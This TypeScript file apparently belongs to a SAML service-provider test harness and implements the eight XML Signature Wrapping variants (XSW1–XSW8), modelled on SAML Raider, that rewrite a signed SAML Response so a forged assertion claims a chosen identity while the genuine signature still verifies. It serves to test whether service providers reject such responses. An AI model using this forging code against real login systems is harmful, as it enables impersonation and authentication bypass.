/**
 * `xsw`: the eight XML Signature Wrapping layouts of Somorovsky et al. ("On Breaking SAML", USENIX
 * Security 2012) as SAML Raider builds them (helpers/XSWHelpers.java, applyXSW1–8), applied to the
 * genuinely signed Response. The forged part claims `identity` (NameID and email attribute); the
 * genuine signature is left to verify over the untouched copy. Element choice follows SAML Raider:
 * the first Response, Assertion and Signature in document order, so each variant also applies to the
 * Response-only, Assertion-only and both-signed layouts.
 *
 *   XSW1  clone of the Response (its first Signature removed) appended inside that Signature; the
 *         outer Response forged, ID `_evil_response_ID`
 *   XSW2  the same clone inserted before the Signature instead (a detached signature)
 *   XSW3  a forged, unsigned clone of the Assertion (ID `_evil_assertion_ID`) inserted before it
 *   XSW4  the forged clone appended to the Response, the signed Assertion moved inside it
 *   XSW5  the Assertion forged in place (keeps its stale Signature, ID evil); an untouched unsigned copy appended to the Response
 *   XSW6  as XSW5, the untouched copy inside the forged Assertion's Signature
 *   XSW7  a forged unsigned clone (same ID) inside a new un-namespaced <Extensions> before the Assertion
 *   XSW8  the Assertion forged in place (keeps its Signature and ID); the untouched copy in a new <Object> in that Signature
 *
 * XSW6 and XSW8 use the Assertion's own Signature, or the document's first one when only the Response
 * is signed. Assertion-level variants (3–8) change what a Response signature covers, so in the
 * Response-only layout they leave no verifiable signature (see README "Faults"); they remain cases an
 * SP must refuse, as SAML Raider offers them.
 */
import type { Document, Element } from '@xmldom/xmldom';
import { elementsNamed } from '../../saml/dom.ts';
import { descendants } from '../../saml/xmldsig.ts';
import { notApplied, type NotApplied, type SignedMutation } from './context.ts';
import { claimIdentity, rewrite } from './document.ts';
import { onlyParams, readIdentity, readInteger } from './params.ts';

export const EVIL_RESPONSE_ID = '_evil_response_ID';
export const EVIL_ASSERTION_ID = '_evil_assertion_ID';

const first = (document: Document, localName: string): Element | undefined => elementsNamed(document, localName)[0];
const firstSignature = (node: Element | Document): Element | undefined => descendants(node, 'Signature')[0];

/** Removes the first Signature under `element`, as SAML Raider does to make a clone "unsigned". */
function dropFirstSignature(element: Element): void {
  const signature = firstSignature(element);
  signature?.parentNode?.removeChild(signature);
}

/** A copy of `element` claiming `identity`, its first Signature removed (the forged part of XSW3, 4, 7). */
function forgedCopy(element: Element, identity: string): Element {
  const copy = element.cloneNode(true) as Element;
  claimIdentity(copy, identity);
  dropFirstSignature(copy);
  return copy;
}

/** Forges `element` in place; returns the untouched copy taken first, its first Signature removed. */
function forgeInPlace(element: Element, identity: string): Element {
  const original = element.cloneNode(true) as Element;
  claimIdentity(element, identity);
  dropFirstSignature(original);
  return original;
}

type Layout = (document: Document, identity: string) => NotApplied | void;

function responseWrapping(place: 'inside-signature' | 'before-signature'): Layout {
  return (document, identity) => {
    const response = first(document, 'Response') ?? document.documentElement!;
    const signature = firstSignature(response);
    if (!signature) return notApplied('the Response carries no Signature to wrap');
    const clone = forgeInPlace(response, identity);
    if (place === 'inside-signature') signature.appendChild(clone);
    else signature.parentNode!.insertBefore(clone, signature);
    response.setAttribute('ID', EVIL_RESPONSE_ID);
    return undefined;
  };
}

function withAssertion(layout: (document: Document, assertion: Element, identity: string) => NotApplied | void): Layout {
  return (document, identity) => {
    const assertion = first(document, 'Assertion');
    if (!assertion) return notApplied('the Response carries no Assertion to wrap');
    if (!firstSignature(document)) return notApplied('nothing in the document is signed');
    return layout(document, assertion, identity);
  };
}

const LAYOUTS: Record<number, Layout> = {
  1: responseWrapping('inside-signature'),
  2: responseWrapping('before-signature'),
  3: withAssertion((document, assertion, identity) => {
    const evil = forgedCopy(assertion, identity);
    evil.setAttribute('ID', EVIL_ASSERTION_ID);
    assertion.parentNode!.insertBefore(evil, assertion);
  }),
  4: withAssertion((document, assertion, identity) => {
    const evil = forgedCopy(assertion, identity);
    evil.setAttribute('ID', EVIL_ASSERTION_ID);
    document.documentElement!.appendChild(evil);
    evil.appendChild(assertion);
  }),
  5: withAssertion((document, evil, identity) => {
    const original = forgeInPlace(evil, identity);
    document.documentElement!.appendChild(original);
    evil.setAttribute('ID', EVIL_ASSERTION_ID);
  }),
  6: withAssertion((document, evil, identity) => {
    const signature = firstSignature(evil) ?? firstSignature(document)!;
    const original = forgeInPlace(evil, identity);
    signature.appendChild(original);
    evil.setAttribute('ID', EVIL_ASSERTION_ID);
    return undefined;
  }),
  7: withAssertion((document, assertion, identity) => {
    const extensions = document.createElement('Extensions');
    assertion.parentNode!.insertBefore(extensions, assertion);
    const evil = forgedCopy(assertion, identity);
    extensions.appendChild(evil);
  }),
  8: withAssertion((document, evil, identity) => {
    const signature = firstSignature(evil) ?? firstSignature(document)!;
    const original = forgeInPlace(evil, identity);
    const object = document.createElement('Object');
    signature.appendChild(object);
    object.appendChild(original);
    return undefined;
  }),
};

export const xswMutation: SignedMutation<{ variant: number; identity: string }> = {
  name: 'xsw',
  point: 'saml.signed',
  summary: 'Signature wrapping XSW1–XSW8 (SAML Raider layouts): the genuine signature still verifies over an untouched copy while the forged part claims identity.',
  readParams(raw, path, issues) {
    onlyParams(raw, path, issues, ['variant', 'identity']);
    return { variant: readInteger(raw, 'variant', path, issues, { min: 1, max: 8, required: true }) ?? 1, identity: readIdentity(raw, path, issues) };
  },
  apply(sent, { variant, identity }) {
    return rewrite(sent, (document) => LAYOUTS[variant]!(document, identity));
  },
};
